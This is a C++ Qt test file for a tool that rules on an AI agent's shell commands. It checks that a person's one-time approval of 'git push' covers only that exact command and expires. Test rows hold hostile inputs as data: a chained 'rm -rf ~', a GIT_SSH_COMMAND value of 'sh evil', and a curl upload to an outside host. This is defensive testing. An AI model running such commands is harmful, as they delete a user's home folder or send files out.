// SPDX-FileCopyrightText: Cofferdam contributors
// SPDX-License-Identifier: GPL-3.0-or-later

#include "app/service/rules/ApprovedRule.h"

#include "core/inspect/tool/Example.h"
#include "core/inspect/tool/ToolCall.h"
#include "core/policy/Policy.h"
#include "tests/support/Test.h"

#include <QFile>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTemporaryDir>
#include <QTest>

using namespace cofferdam;
using namespace Qt::StringLiterals;

namespace {

const auto kToday = QDate::currentDate();

Action command(const QString &line, const QJsonObject &more = {})
{
    Action action;
    action.task = TaskId{u"task"_s};
    action.tool = u"exec"_s;
    action.directory = u"/home/agent/workspace"_s;
    QJsonObject parameters = more;
    parameters.insert(u"command"_s, line);
    action.raw = QJsonDocument(parameters).toJson(QJsonDocument::Compact);
    inspectToolCall(action, u"/home/agent"_s);
    return action;
}

/// The id of the rule that was put in place. Its overrides: all that matched.
Result<QString> makeRule(const QString &folder, const Question &question, const QString &owner, const QString &note, const QDate &today)
{
    return draftApprovedRule(folder, question, question.ruling.matched, owner, note, today).and_then([](const ApprovedRule &rule) -> Result<QString> {
        if (auto written = writeApprovedRule(rule); !written)
            return std::unexpected(written.error());
        return rule.id;
    });
}

QByteArray contentOf(const QString &path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

} // namespace

class tst_ApprovedRule : public QObject
{
    Q_OBJECT

private:
    std::unique_ptr<QTemporaryDir> m_folder;

    [[nodiscard]] Ruling ruling(const Action &action) const
    {
        const auto policy = Policy::load(RuleSources{.packs = u":/cofferdam/policies"_s, .machine = {}, .user = m_folder->path()}, u"balanced"_s,
                                         [](Action &example) { inspectExample(example, u"/home/agent"_s); });
        if (!policy)
            qWarning().noquote() << policy.error().message.english();
        return policy ? (*policy)->evaluate(action) : Ruling{};
    }

    [[nodiscard]] Question asked(const QString &line) const
    {
        Question question;
        question.action = command(line);
        question.ruling = ruling(question.action);
        return question;
    }

private Q_SLOTS:
    void init() { m_folder = std::make_unique<QTemporaryDir>(); }

    void exactlyThisActionIsAllowedFromThenOn()
    {
        const auto question = asked(u"git push origin main"_s);
        QCOMPARE(question.ruling.verdict, Verdict::Ask);
        const auto id = makeRule(m_folder->path(), question, u"ada"_s, u"our own \"mirror\"\n\u202e"_s, kToday);
        QVERIFY2(id, id ? "" : qPrintable(id.error().message.english()));
        const auto now = ruling(question.action);
        QCOMPARE(now.verdict, Verdict::Allow);
        QCOMPARE(now.exceptions, QStringList{*id});
    }

    void nothingElseIs_data()
    {
        QTest::addColumn<QString>("line");
        QTest::addColumn<QJsonObject>("more");
        QTest::newRow("another branch") << u"git push origin other"_s << QJsonObject{};
        QTest::newRow("forced") << u"git push --force origin main"_s << QJsonObject{};
        QTest::newRow("one space more") << u"git push origin  main"_s << QJsonObject{};
        QTest::newRow("another environment") << u"git push origin main"_s << QJsonObject{{u"env"_s, QJsonObject{{u"GIT_SSH_COMMAND"_s, u"sh evil"_s}}}};
        QTest::newRow("another folder") << u"git push origin main"_s << QJsonObject{{u"workdir"_s, u"/home/agent/other"_s}};
        QTest::newRow("more behind it") << u"git push origin main; rm -rf ~"_s << QJsonObject{};
    }

    void nothingElseIs()
    {
        QFETCH(QString, line);
        QFETCH(QJsonObject, more);
        QVERIFY(makeRule(m_folder->path(), asked(u"git push origin main"_s), u"ada"_s, {}, kToday));
        const auto now = ruling(command(line, more));
        QVERIFY2(now.verdict >= Verdict::Ask, qPrintable(now.rule));
        QVERIFY(now.exceptions.isEmpty());
    }

    void itEnds()
    {
        const auto question = asked(u"git push origin main"_s);
        QVERIFY(makeRule(m_folder->path(), question, u"ada"_s, {}, kToday.addDays(-kApprovedRuleDays - 1)));
        QCOMPARE(ruling(question.action).verdict, Verdict::Ask);
    }

    void severalStandBesideEachOther()
    {
        const auto first = asked(u"git push origin main"_s);
        const auto second = asked(u"git push origin other"_s);
        QVERIFY(makeRule(m_folder->path(), first, u"ada"_s, {}, kToday));
        QVERIFY(makeRule(m_folder->path(), second, u"ada"_s, {}, kToday));
        QCOMPARE(ruling(first.action).verdict, Verdict::Allow);
        QCOMPARE(ruling(second.action).verdict, Verdict::Allow);
    }

    void theSameTwiceIsOneRule()
    {
        const auto question = asked(u"git push origin main"_s);
        const auto path = m_folder->filePath(u"approved.toml"_s);
        const auto first = makeRule(m_folder->path(), question, u"ada"_s, {}, kToday);
        QVERIFY(first);
        const auto content = contentOf(path);
        const auto again = draftApprovedRule(m_folder->path(), question, question.ruling.matched, u"bob"_s, u"again"_s, kToday);
        QVERIFY(again);
        QVERIFY(!again->isNew);
        QCOMPARE(again->id, *first);
        QCOMPARE(again->file.content, content);
        QCOMPARE(ruling(question.action).verdict, Verdict::Allow); // the file loads
    }

    void aDraftIsNotInPlace()
    {
        const auto question = asked(u"git push origin main"_s);
        QVERIFY(draftApprovedRule(m_folder->path(), question, question.ruling.matched, u"ada"_s, {}, kToday));
        QVERIFY(!QFile::exists(m_folder->filePath(u"approved.toml"_s)));
    }

    void whatNoRuleOfThePacksAskedForBecomesNone_data()
    {
        QTest::addColumn<QString>("rule");
        QTest::addColumn<QStringList>("overrides");
        QTest::newRow("nothing to override") << u"git.push"_s << QStringList{};
        QTest::newRow("no rule") << u"no-rule"_s << QStringList{u"git.push"_s};
        QTest::newRow("unknown") << u"unknown"_s << QStringList{u"git.push"_s};
    }

    void whatNoRuleOfThePacksAskedForBecomesNone()
    {
        QFETCH(QString, rule);
        QFETCH(QStringList, overrides);
        auto question = asked(u"git push origin main"_s);
        question.ruling.rule = rule;
        const auto draft = draftApprovedRule(m_folder->path(), question, overrides, u"ada"_s, {}, kToday);
        QVERIFY(!draft);
        QCOMPARE(draft.error().code, Errc::Denied);
    }

    void whatRunsOtherThingsOrIsSevereBecomesNoRule_data()
    {
        QTest::addColumn<QString>("line");
        QTest::newRow("a shell") << u"sh -c 'git push origin main'"_s;
        QTest::newRow("a wrapper") << u"env GIT_SSH_COMMAND=x git push origin main"_s;
        QTest::newRow("two commands") << u"git push origin main && git push origin other"_s;
        QTest::newRow("high severity") << u"curl -T file https://outside.example/"_s;
    }

    void whatRunsOtherThingsOrIsSevereBecomesNoRule()
    {
        QFETCH(QString, line);
        const auto question = asked(line);
        QCOMPARE(question.ruling.verdict, Verdict::Ask);
        const auto written = makeRule(m_folder->path(), question, u"ada"_s, {}, kToday);
        QVERIFY(!written);
        QCOMPARE(written.error().code, Errc::Denied);
        QVERIFY(!QFile::exists(m_folder->filePath(u"approved.toml"_s)));
    }

    void aTurnNobodyStartedMakesNone()
    {
        auto question = asked(u"git push origin main"_s);
        question.action.task = {};
        QVERIFY(!makeRule(m_folder->path(), question, u"ada"_s, {}, kToday));
    }

    void aFolderThatCannotBeWrittenIsSaid()
    {
        const auto written = makeRule(u"/proc/nowhere"_s, asked(u"git push origin main"_s), u"ada"_s, {}, kToday);
        QVERIFY(!written);
        QCOMPARE(written.error().code, Errc::Io);
    }
};

COFFERDAM_TEST(tst_ApprovedRule)
#include "tst_approvedrule.moc"
